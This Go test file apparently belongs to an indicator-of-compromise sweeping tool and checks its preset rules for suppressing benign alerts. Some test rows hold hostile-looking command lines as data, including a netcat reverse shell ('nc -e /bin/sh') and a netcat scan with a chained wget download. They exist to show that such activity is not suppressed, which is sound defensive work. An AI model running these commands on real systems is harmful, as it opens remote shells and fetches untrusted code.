package rule

import (
	"strings"
	"testing"

	"github.com/iocsweep/iocsweep/ioc"
)

// TestPresets: every preset loads, says its risk, and has no fault that a
// reader would find but that it is meant for every time and host.
func TestPresets(t *testing.T) {
	want := "failed-connections netcat-admin own-resolver-traffic private-destination special-purpose"
	if got := strings.Join(Presets(), " "); got != want {
		t.Errorf("presets %s, want %s", got, want)
	}
	seen := map[string]bool{}
	for _, name := range Presets() {
		rules, err := Preset(name)
		if err != nil {
			t.Fatal(err)
		}
		for _, r := range rules {
			if len(strings.Fields(r.Risk)) < 8 || r.Reason == "" || !strings.HasPrefix(r.Name, "preset:") || seen[r.Name] {
				t.Errorf("%s: %q: reason %q, risk %q", name, r.Name, r.Reason, r.Risk)
			}
			seen[r.Name] = true
			for _, w := range lintOf(r) {
				if w.Lint != Unbounded && w.Lint != OtherSide {
					t.Errorf("%s: %v", name, w)
				}
			}
		}
	}
	if _, err := Preset("private-destinations"); err == nil || !strings.Contains(err.Error(), `did you mean "private-destination"?`) {
		t.Errorf("a preset that is not there: %v", err)
	}
}

func TestPresetRows(t *testing.T) {
	rules := map[string]*Rule{}
	for _, name := range Presets() {
		list, err := Preset(name)
		if err != nil {
			t.Fatal(err)
		}
		for _, r := range list {
			rules[strings.TrimPrefix(r.Name, "preset:")] = r
		}
	}
	of := func(typ ioc.Type, value string, c *Context) *Context {
		c.Indicator = &ioc.Indicator{Type: typ, Value: value, Details: ioc.NoDetails()}
		return c
	}
	fw := func(src, dst, port, action string) *Context {
		return of(ioc.IP, "176.65.139.7", context(csl, "SourceIP", src, "DestinationIP", dst, "DestinationPort", port, "DeviceAction", action))
	}
	nc := func(when, process, command, user, remote string, more ...string) *Context {
		return of(ioc.IP, "176.65.139.7", context(dne, append([]string{"ActionType", "ConnectionSuccess", "Timestamp", when, "InitiatingProcessFileName", process,
			"InitiatingProcessCommandLine", command, "InitiatingProcessAccountName", user, "RemoteIP", remote, "LocalIP", "10.0.0.9", "DeviceName", "pc-1"}, more...)...))
	}
	const night, day = "2026-05-20T03:00:00Z", "2026-05-20T12:00:00Z"
	used := map[string][2]bool{}
	for _, c := range []struct {
		rule       string
		hit        *Context
		suppressed bool
	}{
		{"failed-connections", fw("10.0.0.5", "176.65.139.7", "23", "deny"), true},
		{"failed-connections", fw("10.0.0.5", "176.65.139.7", "23", "timeout"), true},
		{"failed-connections", fw("10.0.0.5", "176.65.139.7", "23", "allow"), false},
		{"failed-connections", fw("10.0.0.5", "176.65.139.7", "23", ""), false},
		{"private-destination", fw("176.65.139.7", "10.0.0.5", "23", "allow"), true},
		{"private-destination", fw("176.65.139.7", "::ffff:192.168.3.4", "23", "allow"), true},
		{"private-destination", fw("10.0.0.5", "176.65.139.7", "23", "allow"), false},
		{"special-purpose", of(ioc.IP, "127.0.0.1", context(dns, "IPAddresses", "127.0.0.1")), true},
		{"special-purpose", of(ioc.IPPort, "10.0.0.5:23", context(csl, "SourceIP", "10.0.0.5")), true},
		{"special-purpose", of(ioc.IP, "176.65.139.7", context(csl, "SourceIP", "10.0.0.5")), false},
		{"special-purpose", of(ioc.CIDR, "0.0.0.0/1", context(csl, "SourceIP", "10.0.0.5")), false},
		{"own-resolver-traffic", of(ioc.Domain, "evil.example", context(csl, "SourceIP", "10.0.0.5", "DestinationIP", "10.0.0.53", "DestinationPort", "53")), true},
		{"own-resolver-traffic", of(ioc.Domain, "evil.example", context(csl, "SourceIP", "10.0.0.53", "DestinationIP", "9.9.9.9", "DestinationPort", "53")), false},
		{"own-resolver-traffic", of(ioc.IP, "10.0.0.53", context(csl, "SourceIP", "10.0.0.5", "DestinationIP", "10.0.0.53", "DestinationPort", "53")), false},
		{"own-resolver-loopback", of(ioc.Domain, "evil.example", context(dns, "Name", "evil.example", "ClientIP", "127.0.0.1")), true},
		{"own-resolver-loopback", of(ioc.Domain, "evil.example", context(dns, "Name", "evil.example", "ClientIP", "10.0.0.5")), false},
		{"netcat-backup", nc(night, "nc", "nc -zv 192.168.1.100 22", "backup", "192.168.1.100"), true},
		{"netcat-backup", nc(day, "nc", "nc -zv 192.168.1.100 22", "backup", "192.168.1.100"), false},
		{"netcat-backup", nc(night, "nc", "nc -zv 176.65.139.7 22", "backup", "176.65.139.7"), false},
		{"netcat-backup", nc(night, "nc", "nc -z 192.168.1.100 22; wget http://x/", "backup", "192.168.1.100"), false},
		{"netcat-remote-management", nc(day, "ncat.exe", "ncat 10.0.0.5 22", "CORP\\admin", "10.0.0.5"), true},
		{"netcat-remote-management", nc(day, "nc", "nc -e /bin/sh 10.0.0.5 22", "root", "10.0.0.5"), false},
		{"netcat-remote-management", nc(day, "nc", "nc 10.0.0.5 22", "www-data", "10.0.0.5"), false},
		{"netcat-remote-management", nc(day, "nc", "nc 176.65.139.7 22", "root", "176.65.139.7"), false},
		{"netcat-log-shipping", nc(day, "fluent-bit", "fluent-bit -c x", "root", "10.10.10.10", "RemotePort", "24224"), true},
		{"netcat-log-shipping", nc(day, "fluent-bit", "fluent-bit -c x", "root", "10.10.10.10", "RemotePort", "22"), false},
		{"netcat-log-shipping", nc(day, "fluent-bit", "fluent-bit -c x", "root", "176.65.139.7", "RemotePort", "24224"), false},
		{"netcat-monitoring", nc(day, "nmap", "nmap 10.0.0.0/24", "root", "10.0.0.7", "InitiatingProcessFolderPath", "/usr/bin/nmap"), true},
		{"netcat-monitoring", nc(day, "nmap", "nmap 10.0.0.0/24", "root", "10.0.0.7", "InitiatingProcessFolderPath", "/tmp/nmap"), false},
		{"netcat-monitoring", nc(day, "nmap", "nmap 176.65.139.7", "root", "176.65.139.7", "InitiatingProcessFolderPath", "/usr/bin/nmap"), false},
	} {
		r := rules[c.rule]
		if r == nil {
			t.Fatalf("no rule %s", c.rule)
		}
		if got := r.Eval(c.hit); (got == True) != c.suppressed {
			t.Errorf("%s: %v: %s, want suppressed %v", c.rule, c.hit.Row.Cells, got, c.suppressed)
		}
		u := used[c.rule]
		if u[0] = u[0] || c.suppressed; !c.suppressed {
			u[1] = true
		}
		used[c.rule] = u
	}
	for name := range rules {
		if used[name] != [2]bool{true, true} {
			t.Errorf("%s: want a row suppressed and a row kept", name)
		}
	}
}
